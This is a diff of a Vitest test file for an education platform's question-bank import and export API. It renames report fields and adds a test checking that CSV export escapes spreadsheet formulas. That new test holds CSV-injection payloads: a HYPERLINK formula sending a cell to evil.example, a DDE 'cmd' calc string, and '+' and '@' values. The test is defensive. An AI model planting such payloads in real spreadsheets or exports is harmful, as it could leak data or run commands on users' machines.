@@ -5,7 +5,7 @@
  * every change is audited; a module without a test gets one on its first question.
  */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { TAdminQuestionList, TQuestionImportReport } from '@padanam/contract';
+import type { TAdminQuestionList, TImportReport } from '@padanam/contract';
 import { startStudentSession } from '../../database-helpers.js';
 import { insertStudent } from '../../test/accounts.js';
 import { callerOf, insertStaff } from '../../test/staff.js';
@@ -170,23 +170,31 @@ describe('the question bank', () => {
       const broken = '::Broken:: Which is a tree? {=Heap ~Stack';
       const dry = await send(true, giftWith(broken));
       expect(dry.statusCode, dry.body).toBe(200);
-      const report = dry.json() as TQuestionImportReport;
+      const report = dry.json() as TImportReport;
       expect(report.rows.map((row) => [row.line, row.label, row.outcome])).toEqual([
         [4, 'Stack', 'valid'],
-        [6, 'Broken', 'invalid'],
+        [6, 'Broken', 'refused'],
         [8, 'TF', 'unsupported'],
         [10, 'Malayalam', 'valid'],
         [12, 'Math', 'valid'],
       ]);
-      expect(report).toMatchObject({ valid: 3, invalid: 1, unsupported: 1, written: 0 });
-      expect(report.rows[1]!.problems[0]).toMatch(/^Line 6 cannot be read as GIFT/);
+      expect(report).toMatchObject({
+        dryRun: true,
+        isStopped: false,
+        counts: { valid: 3, refused: 1, unsupported: 1, written: 0 },
+      });
+      expect(report.rows[1]!.messages[0]).toMatch(/^Line 6 cannot be read as GIFT/);
 
-      const refused = (await send(false, giftWith(broken))).json() as TQuestionImportReport;
-      expect(refused.written).toBe(0);
+      const refused = (await send(false, giftWith(broken))).json() as TImportReport;
+      expect(refused).toMatchObject({
+        dryRun: false,
+        isStopped: true,
+        counts: { valid: 0, 'not-written': 3, refused: 1, unsupported: 1, written: 0 },
+      });
       expect(await questionsOfTarget()).toEqual([]);
 
       const fixed = (await send(false, giftWith('::Tree:: Which is a tree? {=Heap ~Stack}'))).json();
-      expect(fixed).toMatchObject({ valid: 4, invalid: 0, unsupported: 1, written: 4 });
+      expect(fixed).toMatchObject({ isStopped: false, counts: { valid: 0, refused: 0, unsupported: 1, written: 4 } });
       const questions = await questionsOfTarget();
       expect(questions.map((question) => question.text)).toEqual([
         'Which structure is LIFO?',
@@ -200,7 +208,7 @@ describe('the question bank', () => {
     it('imports the valid rows when asked, and refuses an unreadable file or too many questions', async () => {
       const before = (await questionsOfTarget()).length;
       const partial = await send(false, giftWith('::Broken:: {'), { importValidRows: true });
-      expect(partial.json()).toMatchObject({ invalid: 1, written: 3 });
+      expect(partial.json()).toMatchObject({ isStopped: false, counts: { refused: 1, written: 3 } });
       expect(await questionsOfTarget()).toHaveLength(before + 3);
 
       const noHeader = await send(false, 'Which is LIFO?,Stack,Queue,1', { format: 'csv' });
@@ -217,7 +225,9 @@ describe('the question bank', () => {
         { length: 500 },
         (_, index) => `Question ${index}?\nA. yes\nB. no\nANSWER: B`,
       ).join('\n\n');
-      expect((await send(true, fiveHundred, { format: 'aiken' })).json()).toMatchObject({ valid: 500, written: 0 });
+      expect((await send(true, fiveHundred, { format: 'aiken' })).json()).toMatchObject({
+        counts: { valid: 500, written: 0 },
+      });
       expect(
         (
           await call('POST', importUrl(true), student, {
@@ -253,7 +263,7 @@ describe('the question bank', () => {
           format,
           text: exported.body,
         });
-        expect(imported.json(), format).toMatchObject({ written: source.length, invalid: 0 });
+        expect(imported.json(), format).toMatchObject({ counts: { written: source.length, refused: 0 } });
         const copied = (
           (await call('GET', listUrl(copyId, 'weekly_challenge'), teacher.token)).json() as TAdminQuestionList
         ).questions;
@@ -267,6 +277,49 @@ describe('the question bank', () => {
           }));
         expect(strip(copied), format).toEqual(strip(source));
       }
+    });
+
+    it('exports a teacher’s text a spreadsheet would run as a formula behind a quote, and imports it back as it was', async () => {
+      const newModule = async (title: string) =>
+        (
+          (
+            await call('POST', `/api/admin/papers/${paperId}/modules`, teacher.token, {
+              title,
+              description: '',
+              duration: null,
+              isFreePreview: false,
+            })
+          ).json() as { id: number }
+        ).id;
+      const hostile = {
+        text: '=HYPERLINK("https://evil.example/?leak="&B2,"Open")',
+        options: ["-2+3+cmd|' /C calc'!A0", '+2', '@SUM(1,1)', 'plain'],
+        correctOption: 1,
+        solution: '-b over 2a',
+      };
+      const from = await newModule('Formulas');
+      expect((await call('POST', listUrl(from), teacher.token, hostile)).statusCode).toBe(201);
+      const exported = await call(
+        'GET',
+        `/api/admin/modules/${from}/questions/export?category=special_exam&format=csv`,
+        teacher.token,
+      );
+      expect(exported.statusCode, exported.body).toBe(200);
+      const line = exported.body.split('\r\n')[1]!;
+      expect(line).toBe(
+        `"'=HYPERLINK(""https://evil.example/?leak=""&B2,""Open"")","'-2+3+cmd|' /C calc'!A0","'+2","'@SUM(1,1)",plain,,,2,"'-b over 2a",`,
+      );
+
+      const to = await newModule('Formulas copied');
+      const imported = await call('POST', importUrl(false), teacher.token, {
+        moduleId: to,
+        category: 'special_exam',
+        format: 'csv',
+        text: exported.body,
+      });
+      expect(imported.json()).toMatchObject({ counts: { written: 1, refused: 0 } });
+      const copied = ((await call('GET', listUrl(to), teacher.token)).json() as TAdminQuestionList).questions;
+      expect(copied).toEqual([expect.objectContaining(hostile)]);
     });
   });
 });
